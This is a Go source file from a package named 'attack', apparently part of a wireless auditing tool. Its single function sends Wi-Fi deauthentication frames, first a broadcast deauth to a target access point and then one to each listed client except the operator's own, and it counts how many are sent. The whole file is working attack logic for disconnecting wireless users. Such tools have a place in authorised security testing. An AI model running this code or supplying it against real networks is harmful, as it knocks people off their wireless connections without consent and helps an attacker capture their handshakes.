package attack

import (
	"context"
	"log/slog"
	"strings"

	"github.com/bytebuggy/bytebuggy/pkg/wifi"
)

// deauthClients deauths the target broadcast and then every known client except
// self. It returns the number of deauths sent.
func deauthClients(ctx context.Context, d Deauther, target *wifi.Target, self string) int {
	essid := ""
	if target.ESSIDKnown {
		essid = target.ESSID
	}

	sent := 0
	if err := d.Deauth(ctx, target.Key(), "", essid); err != nil {
		slog.Warn("broadcast deauth failed", "bssid", target.Key(), "err", err)
	} else {
		sent++
	}

	for _, c := range target.Clients {
		if ctx.Err() != nil {
			break
		}
		if self != "" && strings.EqualFold(c.Key(), self) {
			continue
		}
		if err := d.Deauth(ctx, target.Key(), c.Key(), essid); err != nil {
			slog.Warn("client deauth failed", "bssid", target.Key(), "client", c.Key(), "err", err)
			continue
		}
		sent++
	}
	slog.Debug("sent deauths", "bssid", target.Key(), "count", sent)
	return sent
}
